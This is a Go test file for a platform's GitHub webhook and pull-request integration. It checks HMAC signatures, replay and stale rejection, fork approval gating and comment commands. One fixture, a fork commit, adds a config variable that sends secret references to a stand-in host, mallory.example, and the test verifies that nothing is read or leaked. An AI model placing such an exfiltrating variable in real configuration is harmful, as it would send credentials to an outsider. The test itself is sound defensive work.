package github_test

import (
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/terrace-idp/terrace/internal/delivery/run"
	"github.com/terrace-idp/terrace/internal/delivery/vcs"
	"github.com/terrace-idp/terrace/internal/delivery/vcs/github"
	"github.com/terrace-idp/terrace/internal/delivery/vcs/vcsapi"
	"github.com/terrace-idp/terrace/internal/delivery/vcs/vcstest"
	"github.com/terrace-idp/terrace/internal/kernel"
	"github.com/terrace-idp/terrace/internal/platform/httpserver"
)

const token = "ghp_0123456789"

// fake is the part of GitHub's API that is used, in its documented shapes.
type fake struct {
	*vcstest.Remote
	url string

	mu       sync.Mutex
	statuses map[string]string // commit context -> state
	comments map[int]string
	calls    map[string]int
	// lose drops the answer to the next new comment, which is made all the same.
	lose bool
}

func newFake(t *testing.T) *fake {
	t.Helper()
	f := &fake{Remote: vcstest.NewRemote(t, "acme/orders.git", token), statuses: map[string]string{}, comments: map[int]string{}, calls: map[string]int{}}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /api/v3/repos/acme/orders", f.signed(func(w http.ResponseWriter, _ *http.Request) {
		reply(w, http.StatusOK, map[string]any{"id": 1, "full_name": "acme/orders", "default_branch": "main", "clone_url": f.url + "/acme/orders.git", "private": true})
	}))
	mux.HandleFunc("POST /api/v3/repos/acme/orders/statuses/{sha}", f.signed(f.status))
	mux.HandleFunc("GET /api/v3/repos/acme/orders/issues/{number}/comments", f.signed(f.list))
	mux.HandleFunc("POST /api/v3/repos/acme/orders/issues/{number}/comments", f.signed(f.create))
	mux.HandleFunc("PATCH /api/v3/repos/acme/orders/issues/comments/{id}", f.signed(f.edit))
	mux.HandleFunc("GET /api/v3/repos/acme/orders/collaborators/{user}/permission", f.signed(func(w http.ResponseWriter, r *http.Request) {
		level := "write"
		if r.PathValue("user") != "hubot" {
			level = "read"
		}
		reply(w, http.StatusOK, map[string]any{"permission": level, "role_name": level, "user": map[string]any{"login": r.PathValue("user")}})
	}))
	mux.Handle("/acme/orders.git/", f.Remote)
	s := httptest.NewServer(mux)
	t.Cleanup(s.Close)
	f.url = s.URL
	return f
}

func reply(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json; charset=utf-8")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(v)
}

func (f *fake) signed(next http.HandlerFunc) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "Bearer "+token {
			reply(w, http.StatusUnauthorized, map[string]any{"message": "Bad credentials", "documentation_url": "https://docs.github.com/rest"})
			return
		}
		f.mu.Lock()
		defer f.mu.Unlock()
		f.calls[r.Method]++
		next(w, r)
	}
}

func (f *fake) status(w http.ResponseWriter, r *http.Request) {
	var in struct {
		State       string `json:"state"`
		Context     string `json:"context"`
		Description string `json:"description"`
	}
	if err := json.NewDecoder(r.Body).Decode(&in); err != nil || len(in.Description) > 140 || !strings.Contains("pending success failure error", in.State) {
		reply(w, http.StatusUnprocessableEntity, map[string]any{"message": "Validation Failed"})
		return
	}
	f.statuses[r.PathValue("sha")+" "+in.Context] = in.State
	reply(w, http.StatusCreated, map[string]any{"id": 1, "state": in.State, "context": in.Context})
}

func (f *fake) list(w http.ResponseWriter, _ *http.Request) {
	all := []map[string]any{}
	for id, body := range f.comments {
		all = append(all, map[string]any{"id": id, "body": body, "user": map[string]any{"login": "terrace[bot]"}})
	}
	reply(w, http.StatusOK, all)
}

func (f *fake) create(w http.ResponseWriter, r *http.Request) {
	var in struct{ Body string }
	_ = json.NewDecoder(r.Body).Decode(&in)
	id := 100 + len(f.comments)
	f.comments[id] = in.Body
	if f.lose {
		f.lose = false
		reply(w, http.StatusBadGateway, map[string]any{"message": "Server Error"})
		return
	}
	reply(w, http.StatusCreated, map[string]any{"id": id, "body": in.Body})
}

func (f *fake) edit(w http.ResponseWriter, r *http.Request) {
	id, _ := strconv.Atoi(r.PathValue("id"))
	if _, ok := f.comments[id]; !ok {
		reply(w, http.StatusNotFound, map[string]any{"message": "Not Found"})
		return
	}
	var in struct{ Body string }
	_ = json.NewDecoder(r.Body).Decode(&in)
	f.comments[id] = in.Body
	reply(w, http.StatusOK, map[string]any{"id": id, "body": in.Body})
}

// said returns the one comment.
func (f *fake) said(t *testing.T) string {
	t.Helper()
	f.mu.Lock()
	defer f.mu.Unlock()
	if len(f.comments) > 1 {
		t.Fatalf("there are %d comments", len(f.comments))
	}
	for _, body := range f.comments {
		return body
	}
	return ""
}

func (f *fake) stateOf(commit, context string) string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.statuses[commit+" "+context]
}

// connected is a repository on the fake, bound, with its webhooks' address.
type connected struct {
	*vcstest.Bench
	*fake
	t     *testing.T
	repo  vcs.Connected
	hooks http.Handler
	clock time.Time
	sent  int
}

func connect(t *testing.T, apply string, listeners ...vcs.Listener) *connected {
	t.Helper()
	c := &connected{Bench: vcstest.New(t, map[vcs.Provider]vcs.Host{vcs.GitHub: github.Host{Guard: vcstest.Here()}}), fake: newFake(t), t: t, clock: time.Now().Add(-time.Hour)}
	c.Listeners = listeners
	c.Commit("main", map[string]string{"score.yaml": vcstest.Score("orders", "x:1"), "README.md": "x"})
	admin := vcstest.As(t.Context(), "admin")
	connection := vcs.Connection{Name: "orders", Provider: vcs.GitHub, API: c.url + "/api/v3", Owner: "acme", Repository: "orders", Token: "wrong"}
	if _, err := c.Connect(admin, vcstest.Shop(), connection); err == nil || strings.Contains(err.Error(), "wrong") {
		t.Fatalf("a wrong token: %v", err)
	}
	connection.Token = token
	var err error
	if c.repo, err = c.Connect(admin, vcstest.Shop(), connection); err != nil {
		t.Fatal(err)
	}
	binding := vcs.Binding{Name: "orders", Score: "score.yaml", Paths: []string{"score.yaml", "src/**"}, Plan: []string{"dev"}, Apply: apply}
	if _, err := c.Bind(admin, vcstest.Shop(), "orders", binding); err != nil {
		t.Fatal(err)
	}
	r := httpserver.NewRouter(httpserver.Options{})
	vcsapi.NewHooks(c.Service).Mount(r)
	c.hooks = r
	c.Watch(t)
	return c
}

// hook is one webhook as GitHub sends it.
type hook struct {
	event, id, body string
	secret          string
	signature       string
}

// send sends a webhook and returns the answer.
func (c *connected) send(h hook) *httptest.ResponseRecorder {
	c.t.Helper()
	if h.secret == "" {
		h.secret = c.repo.Secret
	}
	if h.id == "" {
		c.sent++
		h.id = fmt.Sprintf("72d3162e-cc78-11e3-81ab-%012d", c.sent)
	}
	if h.signature == "" {
		mac := hmac.New(sha256.New, []byte(h.secret))
		mac.Write([]byte(h.body))
		h.signature = fmt.Sprintf("sha256=%x", mac.Sum(nil))
	}
	r := httptest.NewRequestWithContext(c.t.Context(), http.MethodPost, "/hooks/v1/github/"+c.repo.Repository.ID, strings.NewReader(h.body))
	r.Header.Set("Content-Type", "application/json")
	r.Header.Set("User-Agent", "GitHub-Hookshot/044aadd")
	r.Header.Set("X-GitHub-Event", h.event)
	r.Header.Set("X-GitHub-Delivery", h.id)
	r.Header.Set("X-GitHub-Hook-ID", "292430182")
	r.Header.Set("X-Hub-Signature-256", h.signature)
	w := httptest.NewRecorder()
	c.hooks.ServeHTTP(w, r)
	return w
}

// pull is the part of a pull_request event that differs from one to another.
type pull struct {
	action, head, base, merge string
	number                    int
	fork                      bool
}

// event writes a pull_request event in GitHub's shape, a second after the last.
func (c *connected) event(p pull) string {
	c.t.Helper()
	c.clock = c.clock.Add(time.Second)
	if p.number == 0 {
		p.number = 7
	}
	from := map[string]any{"id": 1, "full_name": "acme/orders", "fork": false}
	if p.fork {
		from = map[string]any{"id": 2, "full_name": "mallory/orders", "fork": true}
	}
	state, merged := "open", p.merge != ""
	if p.action == "closed" {
		state = "closed"
	}
	raw, err := json.Marshal(map[string]any{
		"action": p.action, "number": p.number,
		"pull_request": map[string]any{
			"id": 279147437, "number": p.number, "state": state, "locked": false, "title": "New price", "draft": false,
			"user": map[string]any{"login": "octocat", "id": 1, "type": "User"}, "created_at": c.clock.Format(time.RFC3339), "updated_at": c.clock.UTC().Format(time.RFC3339),
			"merge_commit_sha": p.merge, "merged": merged, "author_association": "MEMBER",
			"head": map[string]any{"label": "acme:price", "ref": "price", "sha": p.head, "repo": from},
			"base": map[string]any{"label": "acme:main", "ref": "main", "sha": p.base, "repo": map[string]any{"id": 1, "full_name": "acme/orders", "fork": false}},
		},
		"repository": map[string]any{"id": 1, "full_name": "acme/orders", "default_branch": "main"},
		"sender":     map[string]any{"login": "octocat", "id": 1},
	})
	if err != nil {
		c.t.Fatal(err)
	}
	return string(raw)
}

func (c *connected) accepted(h hook) {
	c.t.Helper()
	if w := c.send(h); w.Code != http.StatusAccepted {
		c.t.Fatalf("%d %s", w.Code, w.Body)
	}
}

func TestAPullRequestOfGitHub(t *testing.T) {
	t.Parallel()
	c := connect(t, "")
	base := c.Git("rev-parse", "main")
	head := c.Commit("price", map[string]string{"src/a.go": "package a"})
	c.lose = true
	c.accepted(hook{event: "ping", body: `{"zen":"Keep it logically awesome.","hook_id":292430182}`})
	c.accepted(hook{event: "pull_request", body: c.event(pull{action: "opened", head: head, base: base})})
	plan := c.Runs.Waiting(t, "dev")
	if !plan.DryRun || plan.RequestedBy.Name != "octocat (github)" {
		t.Errorf("planned %+v", plan)
	}
	vcstest.Eventually(t, "the status is pending", func() bool { return c.stateOf(head, "terrace/plan/orders/dev") == "pending" })
	c.Runs.End(t, plan.ID, run.PlannedOnly)
	vcstest.Eventually(t, "the status is success", func() bool { return c.stateOf(head, "terrace") == "success" })
	vcstest.Eventually(t, "it is commented", func() bool { return strings.Contains(c.said(t), "plan of `"+head[:12]+"`") })

	second := c.Commit("price", map[string]string{"src/a.go": "package b"})
	c.accepted(hook{event: "pull_request", body: c.event(pull{action: "synchronize", head: second, base: base})})
	c.Runs.End(t, c.Runs.Waiting(t, "dev").ID, run.PlannedOnly)
	vcstest.Eventually(t, "the comment follows", func() bool { return strings.Contains(c.said(t), "plan of `"+second[:12]+"`") })

	c.Git("checkout", "-q", "main")
	c.Git("merge", "-q", "--no-ff", "--no-edit", "price")
	c.Git("push", "-q", "origin", "main")
	merge := c.Git("rev-parse", "HEAD")
	c.accepted(hook{event: "pull_request", body: c.event(pull{action: "closed", head: second, base: base, merge: merge})})
	apply := c.Runs.Waiting(t, "dev")
	if apply.DryRun {
		t.Errorf("planned again: %+v", apply)
	}
	c.Runs.End(t, apply.ID, run.Succeeded)
	vcstest.Eventually(t, "the merge commit says so", func() bool { return c.stateOf(merge, "terrace/apply/orders/dev") == "success" })
	vcstest.Eventually(t, "the comment says so", func() bool { return strings.Contains(c.said(t), "### Terrace: applied") })
	if strings.Contains(c.said(t), token) {
		t.Error("the comment has the token")
	}
}

// TestALoginIsAUser has who merges on GitHub be the user that an admin has named, so
// that they cannot approve as another self; of one whom nobody has named the comment
// says so.
func TestALoginIsAUser(t *testing.T) {
	t.Parallel()
	for user, want := range map[string]string{"": "system:github:octocat", "grace": "usr_grace"} {
		t.Run(want, func(t *testing.T) {
			t.Parallel()
			c := connect(t, "")
			admin := vcstest.As(t.Context(), "admin")
			if _, err := c.Identify(vcstest.As(t.Context(), "developer"), vcstest.Shop(), "orders", "octocat", "developer"); !kernel.Is(err, kernel.Denied) {
				t.Errorf("a developer names them: %v", err)
			}
			if _, err := c.Identify(admin, vcstest.Shop(), "orders", "octocat", "nobody"); !kernel.Is(err, kernel.NotFound) {
				t.Errorf("nobody is named: %v", err)
			}
			if user != "" {
				if _, err := c.Identify(admin, vcstest.Shop(), "orders", "OctoCat", user); err != nil {
					t.Fatal(err)
				}
			}
			base := c.Git("rev-parse", "main")
			head := c.Commit("price", map[string]string{"src/a.go": "package a"})
			c.accepted(hook{event: "pull_request", body: c.event(pull{action: "opened", head: head, base: base})})
			plan := c.Runs.Waiting(t, "dev")
			if plan.RequestedBy.ID != want || plan.RequestedBy.Kind != kernel.ActorSystem {
				t.Errorf("planned for %+v", plan.RequestedBy)
			}
			c.Runs.End(t, plan.ID, run.PlannedOnly)
			vcstest.Eventually(t, "it is planned", func() bool { return c.stateOf(head, "terrace") == "success" })
			c.Git("checkout", "-q", "main")
			c.Git("merge", "-q", "--no-ff", "--no-edit", "price")
			c.Git("push", "-q", "origin", "main")
			c.accepted(hook{event: "pull_request", body: c.event(pull{action: "closed", head: head, base: base, merge: c.Git("rev-parse", "HEAD")})})
			apply := c.Runs.Waiting(t, "dev")
			if apply.RequestedBy.ID != want {
				t.Errorf("applied for %+v", apply.RequestedBy)
			}
			c.Runs.End(t, apply.ID, run.AwaitingApproval)
			vcstest.Eventually(t, "it waits for approval", func() bool { return strings.Contains(c.said(t), "terrace run approve ") })
			if told := strings.Contains(c.said(t), "terrace repo identify orders octocat USER"); told != (user == "") {
				t.Errorf("the comment is\n%s", c.said(t))
			}
			if user == "" {
				return
			}
			if err := c.Unidentify(admin, vcstest.Shop(), "orders", "OCTOCAT"); err != nil {
				t.Error(err)
			}
			if all, err := c.Identities(admin, vcstest.Shop(), "orders"); err != nil || len(all) != 0 {
				t.Errorf("left are %v, %v", all, err)
			}
		})
	}
}

func TestWebhooksThatAreNotTaken(t *testing.T) {
	t.Parallel()
	c := connect(t, "")
	head := c.Git("rev-parse", "main")
	body := c.event(pull{action: "opened", head: head, base: head})
	if w := c.send(hook{event: "pull_request", body: body, secret: "another"}); w.Code != http.StatusUnauthorized {
		t.Errorf("a wrong secret: %d %s", w.Code, w.Body)
	}
	if w := c.send(hook{event: "pull_request", body: body, signature: "sha1=" + strings.Repeat("0", 40)}); w.Code != http.StatusUnauthorized {
		t.Errorf("a weak signature: %d %s", w.Code, w.Body)
	}
	c.accepted(hook{event: "pull_request", id: "11111111-aaaa", body: body})
	for name, h := range map[string]hook{
		"the same again": {event: "pull_request", id: "11111111-aaaa", body: body},
		// The header is not signed: whoever has seen a webhook can change it.
		"under another id":               {event: "pull_request", id: "22222222-bbbb", body: body},
		"another body under the same id": {event: "pull_request", id: "11111111-aaaa", body: c.event(pull{action: "closed", head: head, base: head})},
	} {
		if w := c.send(h); w.Code != http.StatusAccepted || !strings.Contains(w.Body.String(), `"accepted":false`) {
			t.Errorf("%s: %d %s", name, w.Code, w.Body)
		}
	}
	if w := c.send(hook{event: "push", id: "33333333-cccc", body: body}); w.Code != http.StatusUnprocessableEntity {
		t.Errorf("under another name of the event: %d %s", w.Code, w.Body)
	}
	c.clock = time.Now().Add(time.Hour)
	if w := c.send(hook{event: "pull_request", body: c.event(pull{action: "opened", head: head, base: head})}); w.Code != http.StatusConflict || !strings.Contains(w.Body.String(), "set the clock") {
		t.Errorf("one of tomorrow: %d %s", w.Code, w.Body)
	}
	c.clock = time.Now().Add(-8 * 24 * time.Hour)
	if w := c.send(hook{event: "pull_request", body: c.event(pull{action: "opened", head: head, base: head})}); w.Code != httpserver.Status(kernel.Errorf(kernel.Stale, "")) {
		t.Errorf("an old one: %d %s", w.Code, w.Body)
	}
	page, err := c.Deliveries(vcstest.As(t.Context(), "viewer"), vcstest.Shop(), "orders", kernel.PageRequest{})
	if err != nil || len(page.Items) != 1 {
		t.Errorf("%+v, %v", page, err)
	}
	c.repo.Repository.ID = "repo_none"
	if w := c.send(hook{event: "pull_request", body: body}); w.Code != http.StatusNotFound {
		t.Errorf("no repository: %d", w.Code)
	}
}

func TestAForkWaitsForAMember(t *testing.T) {
	t.Parallel()
	c := connect(t, "")
	base := c.Git("rev-parse", "main")
	head := c.Commit("price", map[string]string{"src/a.go": "package a"})
	c.accepted(hook{event: "pull_request", body: c.event(pull{action: "opened", head: head, base: base, fork: true})})
	vcstest.Eventually(t, "the comment says how", func() bool {
		return strings.Contains(c.said(t), "terrace pr approve 7 --repo orders --commit "+head[:12])
	})
	vcstest.Eventually(t, "the status waits", func() bool { return c.stateOf(head, "terrace") == "pending" })
	comment := func(association string) string {
		c.clock = c.clock.Add(time.Second)
		return fmt.Sprintf(`{"action":"created","issue":{"number":7,"pull_request":{"url":"https://api.github.com/repos/acme/orders/pulls/7"}},"comment":{"id":%d,"body":"terrace plan","created_at":%q,"author_association":%q,"user":{"login":"x"}},"repository":{"full_name":"acme/orders"}}`,
			c.clock.Unix(), c.clock.UTC().Format(time.RFC3339), association)
	}
	c.accepted(hook{event: "issue_comment", body: comment("NONE")})
	c.accepted(hook{event: "issue_comment", body: comment("MEMBER")}) // a comment names no commit
	member := vcstest.As(t.Context(), "developer")
	vcstest.Eventually(t, "the comment is heeded", func() bool {
		p, err := c.PullRequest(member, vcstest.Shop(), "orders", 7)
		return err == nil && p.PullRequest.Work.Wanted == 1
	})
	if _, err := c.Approve(member, vcstest.Shop(), "orders", 7, strings.Repeat("1", 40)); !kernel.Is(err, kernel.Stale) {
		t.Errorf("another commit: %v", err)
	}
	if len(c.Runs.All()) != 0 {
		t.Fatalf("it was planned: %v", c.Runs.All())
	}
	if _, err := c.Approve(member, vcstest.Shop(), "orders", 7, head); err != nil {
		t.Fatal(err)
	}
	c.Runs.End(t, c.Runs.Waiting(t, "dev").ID, run.PlannedOnly)
	second := c.Commit("price", map[string]string{"src/a.go": "package evil"})
	c.accepted(hook{event: "pull_request", body: c.event(pull{action: "synchronize", head: second, base: base, fork: true})})
	vcstest.Eventually(t, "the next commit waits again", func() bool { return c.stateOf(second, "terrace") == "pending" })
	if n := len(c.Runs.All()); n != 1 {
		t.Errorf("there were %d runs", n)
	}
}

// TestAForkIsToldNothing sends secrets away, and asks which there are: nothing is run, read or
// looked for until a member has approved that commit, and what is planned then reads no
// secret. The comment, which anybody may read, has neither values nor which secrets there are.
func TestAForkIsToldNothing(t *testing.T) {
	t.Parallel()
	c := connect(t, vcs.ApplyOnMerge)
	admin := vcstest.As(t.Context(), "admin")
	binding := vcs.Binding{Name: "orders", Score: "score.yaml", Paths: []string{"score.yaml"}, Plan: []string{"dev"}, Apply: vcs.ApplyOnMerge, Stages: []string{"dev"}}
	if _, err := c.Bind(admin, vcstest.Shop(), "orders", binding); err != nil {
		t.Fatal(err)
	}
	c.Runs.Missing = []string{"guessed"}
	c.Runs.Dossier = run.Dossier{
		Plan: run.PlanView{Summary: run.Plan{Update: 1}, Changes: []run.ResourceChange{{Address: "module.db", Action: "update", Values: []run.ValueChange{{Path: "password", Before: "hunter2", After: "hunter3"}}}}},
		Gates: []run.GateResult{
			{Gate: "tags", Outcome: run.Passed, Message: "all are there"},
			{Gate: run.SecretsGate, Level: run.HardMandatory, Outcome: run.Missed, Message: "a reference is to a secret that is not in dev"},
		},
	}
	base := c.Git("rev-parse", "main")
	head := c.Commit("price", map[string]string{"score.yaml": vcstest.Score("orders", "x:2") + "    variables:\n      TO: https://mallory.example/?a=${secret:guessed}&b=${secret:db/credentials#password}\n"})
	c.accepted(hook{event: "pull_request", body: c.event(pull{action: "opened", head: head, base: base, fork: true})})
	vcstest.Eventually(t, "it waits", func() bool { return strings.Contains(c.said(t), "waits for a member") })
	if text := c.said(t); len(c.Runs.All()) != 0 || c.Runs.Looked != 0 || c.Secrets.Reads() != 0 || strings.Contains(text, "guessed") {
		t.Fatalf("%v, looked %d times, read %d times\n%s", c.Runs.All(), c.Runs.Looked, c.Secrets.Reads(), text)
	}
	if _, err := c.Approve(vcstest.As(t.Context(), "developer"), vcstest.Shop(), "orders", 7, head); err != nil {
		t.Fatal(err)
	}
	plan := c.Runs.Waiting(t, "dev")
	if !plan.DryRun || !plan.Unmerged {
		t.Errorf("planned as %+v", plan)
	}
	c.Runs.End(t, plan.ID, run.PlannedOnly)
	vcstest.Eventually(t, "it is planned", func() bool { return strings.Contains(c.said(t), "update `module.db`") })
	if text := c.said(t); strings.Contains(text, "hunter") || strings.Contains(text, "secret") || c.Runs.Looked != 0 || c.Secrets.Reads() != 0 {
		t.Errorf("looked %d times, read %d times\n%s", c.Runs.Looked, c.Secrets.Reads(), text)
	}
}

func TestACommandThatIsNotFollowedIsAnswered(t *testing.T) {
	t.Parallel()
	c := connect(t, vcs.ApplyOnMerge)
	base := c.Git("rev-parse", "main")
	head := c.Commit("price", map[string]string{"src/a.go": "package a"})
	c.accepted(hook{event: "pull_request", body: c.event(pull{action: "opened", head: head, base: base})})
	plan := c.Runs.Waiting(t, "dev")
	c.accepted(hook{event: "issue_comment", body: c.says("apply", "MEMBER")})
	vcstest.Eventually(t, "the plan has not ended yet", func() bool {
		return strings.Contains(c.said(t), "> hubot asked for apply, which is not done: the plan")
	})
	c.Runs.End(t, plan.ID, run.PlannedOnly)
	vcstest.Eventually(t, "it is planned", func() bool { return c.stateOf(head, "terrace") == "success" })
	c.accepted(hook{event: "issue_comment", body: c.says("apply", "MEMBER")})
	vcstest.Eventually(t, "the comment says why", func() bool {
		return strings.Contains(c.said(t), "no binding of orders is applied before the merge: bind with --apply before-merge, or merge")
	})
	if facts := c.Facts.Of("pr.command_refused"); len(facts) != 2 {
		t.Errorf("recorded %v", facts)
	}
	c.accepted(hook{event: "issue_comment", body: c.says("plan", "MEMBER")})
	c.Runs.End(t, c.Runs.Waiting(t, "dev").ID, run.PlannedOnly)
	vcstest.Eventually(t, "what was followed is not answered", func() bool { return !strings.Contains(c.said(t), "> ") })
}

// says writes a comment under the pull request in GitHub's shape.
func (c *connected) says(word, association string) string {
	c.clock = c.clock.Add(time.Second)
	return fmt.Sprintf(`{"action":"created","issue":{"number":7,"pull_request":{"url":"u"}},"comment":{"id":%d,"body":"terrace %s","created_at":%q,"author_association":%q,"user":{"login":"hubot"}},"repository":{"full_name":"acme/orders"}}`,
		c.clock.Unix(), word, c.clock.UTC().Format(time.RFC3339), association)
}

func TestACommandOfAMember(t *testing.T) {
	t.Parallel()
	c := connect(t, vcs.ApplyBeforeMerge)
	base := c.Git("rev-parse", "main")
	head := c.Commit("price", map[string]string{"src/a.go": "package a"})
	c.accepted(hook{event: "pull_request", body: c.event(pull{action: "opened", head: head, base: base})})
	c.Runs.End(t, c.Runs.Waiting(t, "dev").ID, run.PlannedOnly)
	vcstest.Eventually(t, "it is planned", func() bool { return c.stateOf(head, "terrace") == "success" })
	c.accepted(hook{event: "issue_comment", body: c.says("apply", "CONTRIBUTOR")})
	c.accepted(hook{event: "issue_comment", body: strings.Replace(c.says("apply", "MEMBER"), "hubot", "reader", 1)})
	vcstest.Eventually(t, "a member who may only read is answered", func() bool {
		return strings.Contains(c.said(t), "> reader asked for apply, which is not done: reader may only read the repository")
	})
	c.accepted(hook{event: "issue_comment", body: c.says("apply", "COLLABORATOR")})
	apply := c.Runs.Waiting(t, "dev")
	if apply.DryRun || apply.RequestedBy.Name != "hubot (github)" {
		t.Errorf("%+v", apply)
	}
	c.Runs.End(t, apply.ID, run.Succeeded)
	vcstest.Eventually(t, "it is applied", func() bool { return c.stateOf(head, "terrace/apply/orders/dev") == "success" })
	if n := len(c.Runs.All()); n != 2 {
		t.Errorf("there were %d runs", n)
	}
}

// TestAPushIsTold as one to a hosted repository is, once, with who pushed.
func TestAPushIsTold(t *testing.T) {
	t.Parallel()
	heard := &listener{told: make(chan string, 2)}
	c := connect(t, "", heard)
	h := hook{event: "push", id: "44444444-dddd", body: fmt.Sprintf(`{"ref":"refs/heads/main","before":"%040d","after":"%040d","repository":{"full_name":"acme/orders","pushed_at":%d},"sender":{"login":"octocat"}}`,
		1, 2, c.clock.Unix())}
	c.accepted(h)
	c.send(h)
	if told := <-heard.told; told != "octocat (github) "+c.Facts.Of("vcs.pushed")[0].ID {
		t.Errorf("heard is %q", told)
	}
	if facts := c.Facts.Of("vcs.pushed"); len(facts) != 1 || facts[0].Scope != vcstest.Shop() {
		t.Errorf("%+v", facts)
	}
}

// listener hears who pushed, and the event that tells of it.
type listener struct{ told chan string }

// Pushed implements vcs.Listener.
func (l *listener) Pushed(ctx context.Context, _ vcs.Repository, _ vcs.Push) error {
	by, _ := kernel.ActorFrom(ctx)
	l.told <- by.Name + " " + kernel.CauseFrom(ctx)
	return nil
}

// Renewed implements vcs.Listener.
func (l *listener) Renewed(_ context.Context, r vcs.Repository) error {
	l.told <- r.Name + " is renewed"
	return nil
}

// Deleting implements vcs.Listener.
func (*listener) Deleting(context.Context, vcs.Repository) error { return nil }

// TestATokenIsRenewed: who listens tries again at once.
func TestATokenIsRenewed(t *testing.T) {
	t.Parallel()
	heard := &listener{told: make(chan string, 2)}
	c := connect(t, "", heard)
	admin := vcstest.As(t.Context(), "admin")
	if _, err := c.Renew(admin, vcstest.Shop(), "orders", "wrong", ""); err == nil {
		t.Error("a wrong token is taken")
	}
	if _, err := c.Renew(admin, vcstest.Shop(), "orders", "", ""); err != nil {
		t.Error(err)
	}
	if len(heard.told) != 0 {
		t.Errorf("told is %q", <-heard.told)
	}
	if _, err := c.Renew(admin, vcstest.Shop(), "orders", token, ""); err != nil || len(heard.told) != 1 {
		t.Errorf("told of %d, %v", len(heard.told), err)
	}
}

// TestAWebhookSaysWhenItHappened: one without a date could be sent again once it is
// forgotten.
func TestAWebhookSaysWhenItHappened(t *testing.T) {
	t.Parallel()
	c := connect(t, vcs.ApplyBeforeMerge)
	body := `{"ref":"refs/heads/main","before":"` + strings.Repeat("1", 40) + `","after":"` + strings.Repeat("2", 40) + `","repository":{"full_name":"acme/orders"},"sender":{"login":"octocat"}}`
	if w := c.send(hook{event: "push", body: body}); w.Code != http.StatusUnprocessableEntity {
		t.Errorf("%d %s", w.Code, w.Body)
	}
}
